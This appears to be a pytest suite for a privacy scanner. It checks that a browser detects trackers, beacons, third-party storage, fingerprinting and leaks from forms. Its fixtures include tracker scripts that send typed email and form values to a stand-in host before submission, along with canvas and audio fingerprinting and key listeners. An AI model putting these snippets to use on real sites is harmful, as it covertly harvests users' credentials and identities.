"""What is seen of traffic and storage: frames, workers, beacons, sockets, third parties, behaviour, identifiers."""

from __future__ import annotations

from typing import Any

import pytest

TRACKER = "https://stats.traceur-essai.test/"
HOME = "https://www.outil-essai.test/"
AGENT = "Essai/1 (+https://preau.example/robot)"


def test_every_kind_of_request_is_seen_with_who_caused_it(stage: Any) -> None:
    stage.tool(
        {
            "index.html": f"""<title>t</title><h1>Outil</h1><script src="{TRACKER}t.js"></script><script>
navigator.sendBeacon("{TRACKER}balise", "a=1"); new Worker("/w.js"); new WebSocket("wss://stats.traceur-essai.test/ws");
navigator.serviceWorker.register("/sw.js"); fetch("/redir");
</script>""",
            "w.js": f'fetch("{TRACKER}ouvrier", {{mode: "no-cors"}});',
            "sw.js": f'fetch("{TRACKER}service", {{mode: "no-cors"}});',
        },
        tail=f'[[routes]]\npath = "/redir"\nredirect = "{TRACKER}arrivee"\nstatus = 302',
    )
    stage.tracker()
    seen = stage.look(phases=("before-choice",))
    run = seen.run("before-choice")
    by_path = {one.url.removeprefix(TRACKER): one for one in run.requests if one.url.startswith(TRACKER)}
    assert {"t.js", "balise", "ouvrier", "service", "arrivee"} <= set(by_path)
    assert by_path["balise"].resource_type == "ping" and by_path["balise"].post_size == 3
    assert by_path["p.gif?cid=1234567"].initiator == f"{TRACKER}t.js"
    assert by_path["arrivee"].redirected_from == "https://www.outil-essai.test/redir"
    assert by_path["t.js"].peer_address == "127.1.60.2"
    assert any(one.resource_type == "websocket" for one in run.requests)
    assert {"beacon", "websocket"} <= {act.kind for act in run.behaviours}
    kept = {(item.kind, item.key) for item in run.storage}
    assert ("service-worker", "https://www.outil-essai.test/sw.js") in kept
    cookie = next(one for one in run.cookies if one.name == "_essai")
    assert (cookie.set_by, cookie.set_via, cookie.lifetime_seconds) == (f"{TRACKER}t.js", "script", 63_072_000)
    own = ("stats.traceur-essai.test", "www.outil-essai.test")
    assert {one.host for one in seen.requests} <= set(own), "Chromium's own calls go nowhere"


def test_the_configured_user_agent_goes_out_verbatim_from_everywhere(stage: Any) -> None:
    stage.tool(
        {
            "index.html": f'<h1>Outil</h1><iframe src="{TRACKER}f"></iframe><script>new Worker("/w.js")</script>',
            "w.js": f'fetch("{TRACKER}w", {{mode: "no-cors"}});',
        }
    )
    stage.tracker({"f.html": "cadre"})

    def agent(config: Any) -> Any:
        return config.model_copy(update={"network": config.network.model_copy(update={"user_agent": AGENT})})

    seen = stage.look(phases=("before-choice",), config=agent)
    assert {one.headers.get("user-agent") for one in seen.requests} == {AGENT}
    assert {one.headers.get("accept-language", "").split(",")[0] for one in seen.requests} <= {"fr-FR", "fr"}


def test_storage_of_third_party_frames_is_seen(stage: Any) -> None:
    stage.tool({"index.html": f'<h1>Outil</h1><iframe src="{TRACKER}f"></iframe>'})
    stage.tracker(
        {
            "f.html": """<script>localStorage.setItem("vid", "3f1c9a7e5d2b8046"); sessionStorage.setItem("s", "1");
const open = indexedDB.open("base"); open.onupgradeneeded = () => open.result.createObjectStore("visites");
document.cookie = "cadre=3f1c9a7e5d2b8046; SameSite=None; Secure; max-age=31536000";</script>"""
        },
        extra='set_cookie = ["srv={hex16}; SameSite=None; Secure; Max-Age=47304000; Path=/", '
        '"perime=x; Max-Age=0", "ailleurs=x; Domain=autre.test"]',
    )
    run = stage.look(phases=("before-choice",)).run("before-choice")
    origin = TRACKER.rstrip("/")
    kept = {(item.kind, item.origin, item.key) for item in run.storage}
    assert {("local", origin, "vid"), ("session", origin, "s"), ("indexed-db", origin, "base/visites")} <= kept
    cookies = {one.name: one for one in run.cookies}
    assert set(cookies) == {"srv", "cadre"}, "neither what deletes nor what no browser takes"
    assert cookies["srv"].lifetime_seconds == 47_304_000
    assert cookies["cadre"].third_party_frame and cookies["cadre"].value_digest != "3f1c9a7e5d2b8046"


def test_identifiers_in_databases_are_told_from_what_is_kept_for_later(stage: Any) -> None:
    keep = """const keep = (base, store, values) => { const open = indexedDB.open(base);
open.onupgradeneeded = () => open.result.createObjectStore(store, { autoIncrement: true });
open.onsuccess = () => { const into = open.result.transaction(store, "readwrite").objectStore(store);
  for (const each of values) into.add(each); }; };
const random = () => crypto.randomUUID();
"""
    stage.tool(
        {
            "index.html": f"""<h1>Outil</h1><iframe src="{TRACKER}f"></iframe><script>{keep}
keep("cours", "pages", [{{ titre: "Les nombres premiers 2026", url: "https://a.test/0123456789abcdef",
  fichier: "lecon-0123.json", le: "2026-11-24T10:00:00Z", quand: Date.now(), chemin: "/a/b/0123456789" }}]);
keep("visiteur", "moi", [{{ autre: 1, profil: {{ id: random(), nom: "x" }} }}]);
keep("actifs", "empreintes", ["9f8e7d6c5b4a39281706ffee"]);
</script>"""
        }
    )
    stage.tracker({"f.html": f"<script>{keep} keep('vis', 'ids', [random()]);</script>"})
    seen = stage.look(phases=("before-choice", "after-refusal"))
    own, third = HOME.rstrip("/"), TRACKER.rstrip("/")
    stores = {(item.origin, item.key): item for item in seen.run("before-choice", 1).storage}
    lessons, visitor = stores[own, "cours/pages"], stores[own, "visiteur/moi"]
    assert (lessons.size, lessons.entropy_bits, lessons.value_digest) == (1, 0.0, "")
    assert visitor.entropy_bits > 60 and visitor.value_digest
    assert stores[third, "vis/ids"].entropy_bits > 60
    again = {(item.origin, item.key): item for item in seen.run("before-choice", 2).storage}
    assert visitor.value_digest != again[own, "visiteur/moi"].value_digest
    facts = {(one.domain, one.name): one for one in _facts(seen).cookies if one.storage == "indexed-db"}
    bits = {name: one.entropy_bits > 40 for (_, name), one in facts.items()}
    assert bits == {"cours/pages": False, "visiteur/moi": True, "actifs/empreintes": False, "vis/ids": True}
    assert facts["stats.traceur-essai.test", "vis/ids"].third_party


def _facts(seen: Any) -> Any:
    """What is derived from the browser's part alone."""
    from datetime import UTC, datetime

    from catalog.nouns.evidence import Evidence
    from rules.derive import derive
    from rules.knowledge.load import load_knowledge

    moment = datetime(2026, 11, 24, tzinfo=UTC)
    evidence = Evidence(scan_id="s", tool_id="t", home=HOME, started_at=moment, ended_at=moment, browser=seen.evidence)
    return derive(evidence, lambda _: b"", load_knowledge(), read=None)


def test_fingerprints_and_recorders_are_told_from_drawings(stage: Any) -> None:
    drawing = """const c = document.createElement("canvas"); c.getContext("2d").fillRect(0, 0, 9, 9); c.toDataURL();"""
    home = f"<h1>Outil</h1><script src={TRACKER}fp.js></script><script src=/jeu.js></script>"
    stage.tool({"index.html": home, "jeu.js": drawing})
    stage.tracker(
        {
            "fp.js": """const c = document.createElement("canvas"); c.width = 240; const x = c.getContext("2d");
x.fillText("Cwm fjordbank glyphs vext quiz", 2, 10); c.toDataURL();
new OfflineAudioContext(1, 5000, 44100).startRendering();
document.addEventListener("keydown", () => 0); document.addEventListener("mousemove", () => 0);
document.addEventListener("input", () => 0);
new MutationObserver(() => 0).observe(document, { subtree: true, childList: true, characterData: true });"""
        }
    )
    run = stage.look(phases=("before-choice",)).run("before-choice")
    acts = {(act.kind, act.script) for act in run.behaviours}
    script = f"{TRACKER}fp.js"
    assert {("canvas", script), ("audio", script), ("key-recording", script), ("session-replay", script)} <= acts
    assert not [one for one in acts if one[1].endswith("jeu.js")]


def test_what_is_typed_and_never_submitted_is_seen_to_leave(stage: Any) -> None:
    stage.tool(
        {
            "index.html": "<h1>Outil</h1>",
            "connexion.html": f"""<form method="post" action="/entrer"><input type="email" name="email">
<input type="password"><button>Entrer</button></form><script src="{TRACKER}espion.js"></script>""",
        }
    )
    stage.tracker(
        {
            "espion.js": f"""document.addEventListener("change", async (e) => {{
  const bytes = new TextEncoder().encode(e.target.value.toLowerCase());
  const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
  const hash = [...digest].map((b) => b.toString(16).padStart(2, "0")).join("");
  new Image().src = "{TRACKER}h.gif?em=" + hash;
  fetch("{TRACKER}c", {{ method: "POST", mode: "no-cors", body: e.target.value }});
}});"""
        }
    )
    seen = stage.look([("connexion", "login", "learner")], phases=("before-choice",))
    run = seen.run("before-choice")
    leaks = {one.url.removeprefix(TRACKER).split("?")[0]: one.leaks for one in run.requests if one.leaks}
    assert leaks == {"h.gif": ("email-hash",), "c": ("email",)}
    assert "form-recording" in {act.kind for act in run.behaviours}
    assert not [one for one in seen.requests if one.path == "/entrer"]


FIELDS = {
    "named by its label": '<label>Adresse électronique <input name="a" id="a"></label>',
    "named by what it shows": '<input name="a" placeholder="E-mail">',
    "in a shadow root": """<x-form></x-form><script>customElements.define("x-form", class extends HTMLElement {
  connectedCallback() { this.attachShadow({ mode: "open" }).innerHTML = '<input type="email">'; } });</script>""",
}


@pytest.mark.parametrize("field", FIELDS)
def test_a_field_for_an_address_is_found_by_what_names_it(stage: Any, field: str) -> None:
    spy = f"""<script>addEventListener("input", async (e) => {{
  const packed = new Blob([e.composedPath()[0].value]).stream().pipeThrough(new CompressionStream("gzip"));
  fetch("{TRACKER}c", {{ method: "POST", mode: "no-cors", body: await new Response(packed).arrayBuffer() }});
}});</script>"""
    stage.tool({"index.html": "<h1>Outil</h1>", "inscription.html": f"<h1>Inscription</h1>{FIELDS[field]}{spy}"})
    stage.tracker()
    seen = stage.look([("inscription", "signup", "learner")], phases=("before-choice",))
    assert "email" in {kind for one in seen.run("before-choice").requests for kind in one.leaks}


def test_what_a_log_in_page_keeps_is_its_own_and_not_the_showcases(stage: Any) -> None:
    banner = """<div style="position:fixed;bottom:0"><p>Nous utilisons des cookies de mesure.</p>
<button onclick="this.parentNode.remove()">Tout accepter</button>
<button onclick="this.parentNode.remove()">Tout refuser</button></div>"""
    keep = "localStorage.setItem('%s', crypto.randomUUID())"
    stage.tool(
        {
            "index.html": f"<title>a</title><h1>Accueil</h1>{banner}",
            "b.html": f"<h1>Connexion</h1><script>{keep % 'eleve'};{keep % 'commun'}</script>",
            "c.html": f"<h1>Cours</h1><script>{keep % 'commun'};{keep % 'cours'}</script>",
        }
    )
    seen = stage.look(
        [("b", "login", "learner"), ("c", "other", "showcase")], phases=("before-choice", "after-refusal")
    )
    where = {(item.key, item.page.removeprefix(HOME)) for item in seen.run("before-choice", 1).storage}
    assert where == {("eleve", "b"), ("commun", "b"), ("commun", "c"), ("cours", "c")}
    after = seen.run("after-refusal")
    assert after.choice_made
    surfaces = {one.name: set(one.surfaces) for one in _facts(seen).cookies}
    assert surfaces == {"eleve": {"learner"}, "commun": {"learner", "showcase"}, "cours": {"showcase"}}


LEAVING = """const say = (how, when) => how === "beacon" ? navigator.sendBeacon(`${T}${when}-beacon`, "id=1234567")
  : how === "fetch" ? fetch(`${T}${when}-fetch`, { method: "POST", body: "x", keepalive: true, mode: "no-cors" })
  : (new Image().src = `${T}${when}-image?cid=1234567`);
for (const when of ["pagehide", "beforeunload", "unload"])
  addEventListener(when, () => { for (const how of ["beacon", "fetch", "image"]) say(how, when); });
document.addEventListener("visibilitychange",
  () => { if (document.visibilityState === "hidden") say("beacon", "hidden"); });
"""


def test_what_a_page_sends_when_it_is_left_belongs_to_it_and_to_the_state_it_was_left_in(stage: Any) -> None:
    script = f"<script>const T = '{TRACKER}'; {LEAVING}</script>"
    stage.tool({"index.html": f"<title>a</title><h1>Accueil</h1>{script}", "b.html": "<title>b</title><h1>Suite</h1>"})
    stage.tracker()
    seen = stage.look([("b", "other", "showcase")])
    kinds = {f"{when}-{how}" for when in ("pagehide", "beforeunload", "unload") for how in ("beacon", "fetch", "image")}
    for number in (1, 2, 3):
        run = seen.run("before-choice", number)
        sent = [one for one in run.requests if TRACKER in one.url and one.left and not one.during_click]
        assert kinds | {"hidden-beacon"} <= {one.url.removeprefix(TRACKER).partition("?")[0] for one in sent}, number
        assert {one.page for one in sent} == {HOME}
    for phase in ("after-refusal", "after-acceptance"):
        assert not [one for one in seen.run(phase).requests if TRACKER in one.url], "nobody chose anything"
